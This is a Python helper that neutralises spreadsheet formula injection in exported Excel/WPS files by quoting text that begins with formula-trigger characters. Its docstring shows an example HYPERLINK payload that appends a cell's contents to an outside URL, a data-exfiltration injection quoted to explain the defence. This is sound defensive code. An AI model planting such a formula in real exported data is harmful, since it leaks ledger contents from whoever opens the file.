"""Values written into spreadsheets that staff download and open in Excel or WPS.

A text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before looking) is read as a formula when the file is opened or the cell edited:
``=HYPERLINK("http://…?"&A2, "点击")`` typed into a visitor's name or a talk's notes would send
a ledger's contents elsewhere, and openpyxl itself stores any string starting with ``=`` as a
formula. Every cell of every export goes through :func:`safe_cell`, which puts an apostrophe
before such text (OWASP's advice for CSV injection), so it is shown and kept as plain text.
Numbers stay numbers: a real -3 is not text and is never changed.
"""

from __future__ import annotations

from typing import Any

#: First characters that make a spreadsheet program treat text as a formula (full-width forms too,
#: which some Chinese input methods produce and some programs normalise).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run as a formula; then quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
